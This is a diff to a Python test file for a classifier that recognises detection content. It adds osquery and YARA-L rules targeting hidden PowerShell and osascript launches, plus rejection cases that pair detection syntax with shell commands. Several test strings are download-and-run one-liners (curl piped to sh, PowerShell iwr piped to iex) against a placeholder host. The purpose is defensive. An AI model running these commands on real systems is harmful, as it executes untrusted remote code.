@@ -31,7 +31,27 @@ detection:
     condition: selection"""
 
 
-@pytest.mark.parametrize("text", [KQL, SPL, YARA, SIGMA], ids=["kql", "spl", "yara", "sigma"])
+# osquery's SQL on one line, with the statement's closing semicolon
+OSQUERY = (
+    "SELECT pid, name, cmdline FROM processes WHERE cmdline LIKE '%osascript -e%display dialog%';"
+)
+# YARA-L (Google SecOps): sections events/condition, an event's dotted fields compared
+YARA_L = """rule run_dialog_powershell {
+  meta:
+    severity = "HIGH"
+  events:
+    $e.metadata.event_type = "PROCESS_LAUNCH"
+    $e.target.process.command_line = /powershell.*(-w\\s+h|hidden).*(iwr|iex)/ nocase
+  condition:
+    $e
+}"""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [KQL, SPL, YARA, SIGMA, OSQUERY, YARA_L],
+    ids=["kql", "spl", "yara", "sigma", "osquery", "yara-l"],
+)
 def test_queries_and_rules_are_read_as_such(text: str) -> None:
     assert is_detection_content(text)
 
@@ -52,6 +72,11 @@ def test_queries_and_rules_are_read_as_such(text: str) -> None:
         # a rule's condition that is a command line, a subshell hiding one
         "rule X\n{\n    condition:\n        curl -fsSL https://a.test/s.sh -o /tmp/s\n}",
         "rule X\n{\n    condition:\n        (curl -fsSL https://a.test/s.sh -o /tmp/s)\n}",
+        # a statement with a command after it, or under it; a YARA-L rule with one beside it
+        "SELECT 1 FROM t; curl -fsSL https://a.test/s.sh | sh",
+        "SELECT name FROM processes\ncurl -fsSL https://a.test/s.sh | sh",
+        "SELECT name FROM processes WHERE 1 = 1 && curl -fsSL https://a.test/s.sh | sh",
+        YARA_L + "\npowershell -w h -c iwr https://a.test/x | iex",
         # one line alone, a sentence
         "DeviceProcessEvents",
         "Run this query in Sentinel to find mshta launches.",
